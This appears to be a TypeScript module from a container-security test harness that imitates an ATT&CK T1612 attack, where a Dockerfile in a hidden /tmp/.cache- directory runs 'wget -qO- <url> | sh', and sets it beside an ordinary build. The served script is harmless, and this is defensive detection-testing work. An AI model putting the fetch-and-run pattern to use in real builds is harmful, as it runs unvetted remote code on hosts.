/**
 * Builds and deployments to be seen by Keelwatch: a harmless attack of the kind that ATT&CK calls Build Image on Host
 * (T1612), and an ordinary build for comparison. Values are handed to the shell as its arguments: it parses none.
 */
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { command, type Finished } from './command.js';
import type { Builder } from './docker-cli.js';
import { type Engine, mustBeFree } from './engine.js';
import { changeHolding, claim } from './holding.js';
import { identify } from './processes.js';
import { release } from './release.js';
import { ensureWatchdog } from './watchdog.js';

/** What the external host serves: prints a line and leaves a file, so that one can see that it ran. */
export const setupScript = `#!/bin/sh
echo 'keelwatch: a harmless script ran in a build step'
echo 'a harmless script ran here' > /keelwatch-was-here
`;

export interface BuildOptions {
  engine: Engine;
  /** Image that exists on the engine. */
  baseImage: string;
  builder: Builder;
  /**
   * Null builds without a name. As ever, a builder runs no step again whose result it still has: where steps have to
   * run, their text has to be new, or `args` hold `--no-cache`.
   */
  tag: string | null;
  /** A step that fails comes last. */
  fails?: boolean;
  /** Steps run in the host's network instead of a container's. */
  hostNetwork?: boolean;
  /** More lines of the Dockerfile, after the steps. */
  lines?: readonly string[];
  /** More arguments for docker build. */
  args?: readonly string[];
  onOutput?: (text: string) => void;
  signal?: AbortSignal;
}

export interface AttackOptions extends BuildOptions {
  /** What the build step downloads and runs: `http://<external>/setup.sh`. */
  url: string;
  /** Where the Dockerfile is written. Default: a new directory under /tmp. */
  directory?: string;
}

export interface Built {
  finished: Finished;
  dockerfile: string;
  /** `sha256:…`; null when the build failed. */
  image: string | null;
  /** Removes the Dockerfile's directory. The image stays. */
  remove(): Promise<void>;
}

/** One shell writes a Dockerfile into a directory for temporary files and builds it, as an intruder's would. */
export async function buildAsAttacker(options: AttackOptions): Promise<Built> {
  if (options.tag !== null) await mustBeFree(options.engine, options.tag);
  const directory = options.directory ?? mkdtempSync('/tmp/.cache-');
  const { directory: holding } = claim('attack', () => ({ directories: [directory] }));
  ensureWatchdog();
  const text = [
    `FROM ${options.baseImage}`,
    `RUN wget -qO- ${options.url} | sh`,
    ...endOf(options),
  ].join('\n');
  const finished = await shell(
    'mkdir -p "$1" && printf "%s\\n" "$2" > "$1/Dockerfile" && shift 2 && docker build "$@"',
    [directory, text, ...buildArguments(options), directory],
    holding,
    options,
  );
  return {
    finished,
    dockerfile: join(directory, 'Dockerfile'),
    image: await builtImage(options, finished),
    remove: () => release(holding),
  };
}

/** An ordinary build of a project: local files only, its directory made beforehand and not a temporary one. */
export async function buildAsDeveloper(options: BuildOptions): Promise<Built> {
  if (options.tag !== null) await mustBeFree(options.engine, options.tag);
  const { directory: holding } = claim('project', () => ({}));
  ensureWatchdog();
  const directory = join(holding, 'hello');
  mkdirSync(directory);
  const dockerfile = join(directory, 'Dockerfile');
  const text = [
    `FROM ${options.baseImage}`,
    'COPY hello.sh /usr/bin/hello',
    'RUN chmod +x /usr/bin/hello && hello',
    ...endOf(options),
  ].join('\n');
  writeFileSync(join(directory, 'hello.sh'), '#!/bin/sh\necho hello\n');
  writeFileSync(dockerfile, `${text}\n`);
  const finished = await shell(
    'docker build "$@"',
    [...buildArguments(options), directory],
    holding,
    options,
  );
  return {
    finished,
    dockerfile,
    image: await builtImage(options, finished),
    remove: () => release(holding),
  };
}

export interface Deployed {
  finished: Finished;
  /** Full id; null when it was not started. */
  container: string | null;
}

/** Starts a container from a shell, in the background, from an image that exists on the engine. */
export async function deploy(
  engine: Engine,
  image: string,
  args: readonly string[] = [],
): Promise<Deployed> {
  const { directory: holding } = claim('deployment', () => ({}));
  const finished = await shell('docker run -d "$@"', [...args, image], holding, { engine });
  await release(holding);
  return { finished, container: finished.code === 0 ? finished.stdout.trim() : null };
}

export interface Attacked {
  built: Built;
  /** Null when there was no image to start. */
  deployed: Deployed | null;
}

/** All of it: builds from the downloaded script, then starts a container from the image. */
export async function carryOutAttack(options: AttackOptions): Promise<Attacked> {
  const built = await buildAsAttacker(options);
  const wanted = built.image !== null && options.signal?.aborted !== true;
  const image = wanted ? (options.tag ?? built.image) : null;
  return { built, deployed: image === null ? null : await deploy(options.engine, image) };
}

function endOf(options: BuildOptions): string[] {
  return [
    ...(options.fails === true ? ['RUN exit 3'] : []),
    ...(options.lines ?? []),
    // Ends when it is told to, as main processes do only if they say so: an engine would wait ten seconds else.
    `CMD ["sh", "-c", "trap 'exit 0' TERM; echo keelwatch: a harmless container runs; sleep 3600 & wait"]`,
  ];
}

function buildArguments(options: BuildOptions): string[] {
  return [
    ...(options.hostNetwork === true ? ['--network=host'] : []),
    ...(options.tag === null ? [] : ['-t', options.tag]),
    ...(options.args ?? []),
  ];
}

interface ShellOptions {
  engine: Engine;
  builder?: Builder;
  onOutput?: (text: string) => void;
  signal?: AbortSignal;
}

/** A shell that outlives its commands, as one that somebody types into does; it and they end with the holding. */
function shell(
  script: string,
  args: readonly string[],
  holding: string,
  { engine, builder, onOutput, signal }: ShellOptions,
): Promise<Finished> {
  return command('sh', ['-c', `${script}\nexit $?`, 'sh', ...args], {
    env: engine.environment(builder),
    cwd: '/',
    ...(onOutput === undefined ? {} : { onOutput }),
    ...(signal === undefined ? {} : { signal }),
    onStart: (group) => {
      const leader = identify(group);
      if (leader === null) return;
      changeHolding(holding, (held) => ({ ...held, processes: [leader] }));
    },
  });
}

/** By its name; by what the builder printed where it has none. */
async function builtImage(options: BuildOptions, finished: Finished): Promise<string | null> {
  if (finished.code !== 0) return null;
  const printed =
    /Successfully built ([0-9a-f]+)/.exec(finished.stdout)?.[1] ??
    /writing image (sha256:[0-9a-f]{64})/.exec(finished.stdout + finished.stderr)?.[1];
  const name = options.tag ?? printed;
  if (name === undefined) return null;
  const asked = await options.engine.docker(['image', 'inspect', '--format', '{{.Id}}', name]);
  if (asked.code !== 0) return null;
  return asked.stdout.trim();
}
